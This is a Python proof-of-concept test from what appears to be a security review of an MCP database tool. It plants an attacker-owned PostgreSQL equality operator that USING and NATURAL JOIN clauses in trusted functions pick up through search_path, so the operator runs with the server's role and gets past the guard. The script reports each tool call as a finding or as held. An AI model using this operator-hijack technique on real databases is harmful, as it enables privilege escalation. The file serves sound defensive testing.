"""attack5 F3: a trusted function whose own `SET search_path` names the open schema public,
with every name in its body qualified (what open_schema_body lets through), joins with
`JOIN ... USING (name)` / `NATURAL JOIN` on a varchar column. PostgreSQL looks the join's `=`
up on the function's path when the body runs; the guard's name reader (refs.py) never sees
that `=` (no A_Expr in the raw tree), so `public.=(varchar, varchar)` planted by the attacker,
before the check or after it, is neither judged nor refused: it runs as the server's role.

Usage: PYTHONPATH=tests:security-review:security-review/attack5 uv run python \
    security-review/attack5/body_using.py
Prints FINDING / held per tool; exits 1 on a finding."""
from __future__ import annotations

import asyncio
import sys

from common5 import ATTACKER, DROP_EQ, DSN, PLANT_EQ, READER, execute, pwned, reset_db, tool
from mcpclient import connect

DBA = """
CREATE FUNCTION app.twins() RETURNS bigint STABLE LANGUAGE sql
    SET search_path = pg_catalog, public
    AS $$SELECT pg_catalog.count(*) FROM app.people a JOIN app.people b USING (name)$$;
CREATE FUNCTION app.twins_natural() RETURNS bigint STABLE LANGUAGE plpgsql
    SET search_path = pg_catalog, public AS $$
BEGIN
    RETURN (SELECT pg_catalog.count(*) FROM app.people a NATURAL JOIN app.people b);
END $$;
-- control: the same join written ON a.name = b.name (an unqualified operator): refused
CREATE FUNCTION app.twins_on() RETURNS bigint STABLE LANGUAGE sql
    SET search_path = pg_catalog, public
    AS $$SELECT pg_catalog.count(*) FROM app.people a JOIN app.people b ON a.name = b.name$$;
"""
CALLS = {
    "execute_query USING": ("execute_query", {"sql": "SELECT app.twins() AS n"}),
    "execute_query NATURAL (plpgsql)": ("execute_query", {"sql": "SELECT app.twins_natural() AS n"}),
    "explain analyze USING": ("explain_query", {"sql": "SELECT app.twins() AS n", "analyze": True}),
    "get_sample_rows where_clause": (
        "get_sample_rows",
        {"schema_name": "app", "table_name": "people", "where_clause": "app.twins() > 0"},
    ),
    "control ON a.name = b.name": ("execute_query", {"sql": "SELECT app.twins_on() AS n"}),
}


async def main() -> int:
    await reset_db()
    await execute(DSN, DBA)
    found = 0
    async with connect(READER) as c:
        for label, (name, args) in CALLS.items():  # clean: served (or refused for the control)
            ok, body = await tool(c, name, **args)
            print(f"clean {label}: ok={ok} {str(body)[:150]}")
        await execute(ATTACKER, PLANT_EQ)
        try:
            for label, (name, args) in CALLS.items():
                ok, body = await tool(c, name, **args)
                tag = "FINDING" if pwned(body) else "held"
                found += tag == "FINDING"
                print(f"{tag}: {label}: ok={ok} {str(body)[:220]}")
        finally:
            await execute(ATTACKER, DROP_EQ)
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
